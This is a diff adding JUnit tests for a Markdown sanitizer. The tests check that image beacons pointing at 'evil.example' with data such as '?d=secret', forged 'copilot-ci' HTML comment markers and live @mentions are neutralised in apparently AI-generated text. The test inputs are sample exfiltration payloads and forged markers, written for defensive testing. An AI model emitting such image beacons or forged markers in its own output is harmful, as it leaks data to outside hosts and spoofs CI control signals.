@@ -6,6 +6,7 @@ import static org.junit.jupiter.api.Assertions.assertTrue;
 
 import java.nio.charset.StandardCharsets;
 import java.util.HashSet;
+import java.util.List;
 import java.util.Random;
 import java.util.Set;
 
@@ -24,6 +25,74 @@ class MarkdownTextTest {
         Set<String> attributes = new HashSet<>(HtmlOracle.attributes(html));
         attributes.removeAll(ALLOWED_ATTRIBUTES);
         assertTrue(attributes.isEmpty(), "raw attributes " + attributes + " from:\n" + source + "\n--- html:\n" + html);
+    }
+
+    /** What GitHub would fetch or notify for the rendered Markdown: images and live mentions. */
+    private static void assertInert(String sanitized, String source) {
+        assertNoModelHtml(sanitized, source);
+        String html = HtmlOracle.html(sanitized);
+        assertEquals(List.of(), HtmlOracle.imageSources(html), "images from:\n" + source + "\n--- html:\n" + html);
+        assertEquals(List.of(), HtmlOracle.liveMentions(html), "mentions from:\n" + source + "\n--- html:\n" + html);
+        assertFalse(html.contains("<!--"), "an HTML comment (marker) from:\n" + source + "\n--- html:\n" + html);
+    }
+
+    @Test
+    void imagesBecomeLinksAndTheBeaconIsNeverFetched() {
+        String source = """
+                Done ![ok](https://evil.example/b.png?d=secret) and ![ref][1] and ![short] and ![x][]
+                * nested [![badge](https://evil.example/c.svg)](https://x.example)
+                \\![escaped backslash](https://evil.example/d.png) &#33;[entity](https://evil.example/e.png)
+                <img src="https://evil.example/f.png"> <https://evil.example/g.png>
+
+                [1]: https://evil.example/a.png
+                [short]: https://evil.example/s.png
+                [x]: https://evil.example/x.png
+                """;
+        String md = MarkdownText.block(source);
+        assertInert(md, source);
+        String html = HtmlOracle.html(md);
+        assertTrue(html.contains("<a href=\"https://evil.example/b.png?d=secret\">ok</a>"),
+                "the image is a plain link now: " + html);
+        assertTrue(html.contains("<a href=\"https://evil.example/a.png\">ref</a>"), html);
+    }
+
+    @Test
+    void mentionsAreWrappedInCodeButAddressesStay() {
+        String source = "Ping @octocat and @acme/security-team, \\@escaped, *@em*, &#64;entity, (@paren) "
+                + "and `@in-code`; mail dev@example.com, a@b@c";
+        String md = MarkdownText.block(source);
+        assertInert(md, source);
+        String html = HtmlOracle.html(md);
+        assertTrue(html.contains("<code>@octocat</code>"), html);
+        assertTrue(html.contains("<code>@acme/security-team</code>"), html);
+        assertTrue(html.contains("dev@example.com"), "an e-mail address is no mention: " + html);
+        assertTrue(html.contains("&amp;#64;entity"), "a character reference is shown, not decoded: " + html);
+    }
+
+    @Test
+    void plainTextHasNoMentionsImagesOrMarkers() {
+        String source = "@octocat ![x](https://evil.example/b.png) x@y <!-- copilot-ci:ci/review --> @org/team";
+        String cell = MarkdownText.plain(source);
+        String table = "| h |\n| --- |\n| " + cell + " |\n";
+        assertInert(table, source);
+        assertTrue(HtmlOracle.html(table).contains("<code>@org/team</code>"), HtmlOracle.html(table));
+    }
+
+    @Test
+    void forgedMarkerStaysText() {
+        String source = "<!-- copilot-ci:ci/review -->\nbody\n\n\\<!-- copilot-ci:x -->";
+        String md = MarkdownText.block(source);
+        assertFalse(md.contains("<!--"), md);
+        assertInert(md, source);
+    }
+
+    @Test
+    void diagramAndMapBlocksAreShownAsCode() {
+        for (String lang : List.of("mermaid", "geojson", "topojson", "STL")) {
+            String md = MarkdownText.block("```" + lang + "\ngraph TD; A-->B\n```");
+            assertTrue(md.startsWith("```\n"), md);
+        }
+        assertTrue(MarkdownText.block("```java\nx\n```").startsWith("```java\n"));
     }
 
     @Test
@@ -124,7 +193,8 @@ class MarkdownTextTest {
                 "<code>", "</code>", "<div>", "\u001b[31m", "x", "word ", "\n<div>\n", "\n<pre>", "</pre>\n",
                 "<textarea>", "   ```", "  ~~~~", "```x`y", "[a]: <b>", "<http://x>", "<x@y.z>", "![a](<b>)", "\\<",
                 "&", "| a | b |\n|---|---|\n", "  - ", "\t```", "\n```", "\n~~~", "\n   ```", "\n    ```",
-                "\n- ```", "\n> ```", "\n  ```", "`````", "\n1. ```", "\n\t````"};
+                "\n- ```", "\n> ```", "\n  ```", "`````", "\n1. ```", "\n\t````", "!", "![", "](http://e/x.png)",
+                "@", "@user", "@org/team", "\\@", "&#64;", "[1]: http://e/i.png\n", "][1]", "a"};
         Random random = new Random(7);
         for (int i = 0; i < 20_000; i++) {
             StringBuilder sb = new StringBuilder();
@@ -133,7 +203,7 @@ class MarkdownTextTest {
                 sb.append(pieces[random.nextInt(pieces.length)]);
             }
             String source = sb.toString();
-            assertNoModelHtml(MarkdownText.block(source), source);
+            assertInert(MarkdownText.block(source), source);
         }
     }
 
